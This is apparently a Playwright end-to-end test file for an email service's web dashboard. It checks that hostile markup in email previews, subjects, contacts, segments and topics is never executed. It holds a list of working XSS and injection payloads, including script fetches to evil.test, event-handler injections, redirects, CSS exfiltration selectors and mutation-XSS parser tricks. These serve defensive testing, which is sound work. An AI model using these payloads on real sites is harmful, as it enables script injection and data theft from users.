import { randomBytes } from "node:crypto"
import { expect, test } from "@playwright/test"
import { watch } from "@/e2e/support/browser"
import { createSampleOrganization, type SampleOrganization } from "@/e2e/support/sample-organization"
import { becomeOwner } from "@/e2e/support/signed-in"

// What tenants and recipients write is shown, never run.

// A worker that starts again after a failure finds the address of the first one taken.
const name = `content-${randomBytes(4).toString("hex")}`
let own: SampleOrganization
test.beforeAll(async () => {
  own = await createSampleOrganization(name)
})

async function send(body: Record<string, unknown>): Promise<string> {
  const mail = { from: `hello@${name}.test`, to: ["ada@lovelace.example"], subject: "Hello", text: "Hi" }
  const answer = await fetch(`${own.baseUrl}/v1/emails`, {
    method: "POST",
    headers: { authorization: `Bearer ${own.apiKey}`, "content-type": "application/json" },
    body: JSON.stringify({ ...mail, ...body }),
  })
  expect(answer.status).toBe(201)
  return String((await answer.json()).id)
}

const hostile = [
  "<img src='http://evil.test/pixel.png' srcset='http://evil.test/2x.png 2x'><video poster='http://evil.test/p.png'></video><p style=\"background:url('http://evil.test/s.png')\">styled</p>",
  "<script>top.hacked=1;parent.hacked=1;fetch('http://evil.test/')</script>",
  "<base href='http://evil.test/'><a id=link href='page' target=_top>click me</a>",
  "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
  "<form action=/api/auth/signout method=post><button id=send>press me</button></form>",
  "<form action='http://evil.test/' id=f2><input name=q><button>and me</button></form>",
  "<img src=x onerror='parent.hacked=1'><svg onload='parent.hacked=1'></svg><details open ontoggle='parent.hacked=1'>",
  "<style>body{background:url(http://evil.test/css)} @import 'http://evil.test/x.css'; input[value^=a]{background:url(http://evil.test/a)}</style>",
  "<link rel=stylesheet href='http://evil.test/x.css'><iframe src='http://evil.test/'></iframe><object data='http://evil.test/'></object>",
  '<noscript><p title="</noscript><img src=x onerror=parent.hacked=1>"></noscript>',
  "<math><mtext><table><mglyph><style><img src=x onerror=parent.hacked=1></style></mglyph></table></mtext></math>",
].join("\n")

test("the preview of a hostile email runs no script, makes no request, submits no form and does not navigate", async ({
  browser,
  baseURL,
}) => {
  const emailId = await send({ html: hostile })
  const context = await browser.newContext()
  await context.addCookies(
    own.cookie.split("; ").map((pair) => ({
      name: pair.split("=")[0] ?? "",
      value: pair.slice(pair.indexOf("=") + 1),
      url: baseURL ?? "",
    })),
  )
  const page = await context.newPage()
  // The browser reports what the policy forbids as a failed request, before anything is sent.
  const asked: string[] = []
  const outside = (url: string) => /^https?:/.test(url) && new URL(url).host !== new URL(baseURL ?? "").host
  page.on("requestfinished", (request) => outside(request.url()) && asked.push(request.url()))
  page.on("requestfailed", (request) => {
    if (outside(request.url()) && !/csp|BLOCKED_BY_CSP/i.test(request.failure()?.errorText ?? ""))
      asked.push(`${request.url()} ${request.failure()?.errorText}`)
  })
  await page.goto(`/projects/${own.projectId}/emails/${emailId}`)
  await page.getByRole("tab", { name: "Preview" }).click()
  const element = page.getByRole("tabpanel").locator("iframe")
  await expect(element).toHaveAttribute("sandbox", "")
  const frame = element.contentFrame()
  await expect(frame.getByText("click me")).toBeVisible()
  await frame.getByText("click me").click()
  await frame.getByText("press me").click()
  await frame.getByText("and me").click()
  await expect(frame.getByText("styled")).toBeVisible()
  await expect(page).toHaveURL(new RegExp(`/emails/${emailId}`))
  expect(await page.evaluate(() => (globalThis as { hacked?: number }).hacked)).toBeUndefined()
  expect(asked).toEqual([])
  for (const tag of ["script", "base", "meta[http-equiv=refresh]", "iframe", "object", "link"])
    expect([tag, await frame.locator(tag).count()]).toEqual([tag, 0])
  const session = await page.evaluate(async () => (await fetch("/v1/session")).status)
  expect(session).toBe(200)
  await context.close()
})

test("markup in subjects, names, tags, domains' answers and user agents is text on every page that shows it", async ({
  browser,
  baseURL,
}) => {
  const markup = "<img src=x onerror=globalThis.hacked=1>"
  await fetch(`${own.baseUrl}/v1/projects/${own.projectId}`, {
    headers: { authorization: `Bearer ${own.apiKey}`, "user-agent": `${markup}<script>hacked=1</script>` },
  })
  const emailId = await send({
    subject: `${markup} subject`,
    from: `"${markup.replaceAll('"', "")}" <hello@${name}.test>`,
    tags: { kind: markup },
    metadata: { note: markup },
    text: `${markup} </script><script>hacked=1</script>`,
    headers: { "X-Note": markup },
  })
  await send({ to: ["bounced+script@simulator.mailroom.test"], subject: `${markup} refused` })
  const bearer = { authorization: `Bearer ${own.apiKey}` }
  await expect
    .poll(async () => (await (await fetch(`${own.baseUrl}/v1/emails/${emailId}`, { headers: bearer })).json()).status, {
      timeout: 20_000,
    })
    .toBe("delivered")

  const context = await browser.newContext()
  await context.addCookies(
    own.cookie.split("; ").map((pair) => ({
      name: pair.split("=")[0] ?? "",
      value: pair.slice(pair.indexOf("=") + 1),
      url: baseURL ?? "",
    })),
  )
  const page = await context.newPage()
  const { faults } = watch(page)
  const place = `/projects/${own.projectId}`
  for (const path of [
    place,
    `${place}/emails`,
    `${place}/emails/${emailId}`,
    `${place}/emails/${emailId}?tab=headers`,
    `${place}/emails/${emailId}?tab=raw`,
    `${place}/emails/${emailId}?tab=json`,
    `${place}/emails/${emailId}?tab=text`,
    `${place}/stream`,
    `${place}/sandbox`,
    `${place}/sandbox/${own.ids.messageId}`,
    `${place}/api-keys/${own.ids.keyId}`,
  ]) {
    await page.goto(path)
    await page.waitForLoadState("load")
    await expect(page.getByRole("main")).toBeVisible()
    expect([path, await page.evaluate(() => (globalThis as { hacked?: number }).hacked)]).toEqual([path, undefined])
    expect([path, await page.locator("img[src=x]").count()]).toEqual([path, 0])
  }
  await page.goto(`${place}/emails`)
  await expect(page.getByText(`${markup} subject`).filter({ visible: true }).first()).toBeVisible()
  expect(faults).toEqual([])
  await context.close()
})

test("markup in contacts, properties, segments and topics is text on every page that shows it", async ({ page }) => {
  const markup = "<img src=x onerror=globalThis.hacked=1>"
  const place = `/projects/${own.projectId}`
  const make = async (path: string, body: unknown) => {
    const answer = await fetch(`${own.baseUrl}/v1${place}/${path}`, {
      method: "POST",
      headers: { authorization: `Bearer ${own.apiKey}`, "content-type": "application/json" },
      body: JSON.stringify(body),
    })
    expect(answer.status).toBe(201)
    return String((await answer.json()).id)
  }
  await make("contact-properties", { key: "note", type: "string", fallbackValue: `${markup} fallback` })
  const filter = { all: [{ field: "lastName", operator: "contains", value: markup }] }
  const [byFilter, byHand] = [
    await make("segments", { name: `${markup} segment`, filter }),
    await make("segments", { name: `${markup} by hand` }),
  ]
  const topicId = await make("topics", {
    name: `${markup} topic`,
    description: `${markup} described`,
    defaultSubscription: "opt_out",
  })
  const contactId = await make("contacts", {
    email: "hostile@lovelace.example",
    firstName: markup,
    lastName: `${markup} last`,
    phone: "<b>1</b>",
    properties: { note: `${markup} note` },
    segments: [{ id: byHand }],
    topics: [{ id: topicId, subscription: "opt_in" }],
  })

  await becomeOwner(page.context(), own)
  const { faults } = watch(page)
  const pages: [path: string, shown: string][] = [
    ["contacts", `${markup} last`],
    [`contacts/${contactId}`, `${markup} last`],
    ["segments", `${markup} segment`],
    ["segments/new", "Create segment"],
    [`segments/${byFilter}`, `${markup} segment`],
    [`segments/${byHand}`, `${markup} last`],
    ["topics", `${markup} topic`],
    [`topics/${topicId}`, `${markup} topic`],
    ["properties", `${markup} fallback`],
    ["contacts/imports/new", "Import"],
  ]
  for (const [path, shown] of pages) {
    await page.goto(`${place}/${path}`)
    await expect(page.getByRole("main").getByText(shown).filter({ visible: true }).first()).toBeVisible()
    expect([path, await page.evaluate(() => (globalThis as { hacked?: number }).hacked)]).toEqual([path, undefined])
    expect([path, await page.locator("img[src=x]").count()]).toEqual([path, 0])
  }
  expect(faults).toEqual([])
})
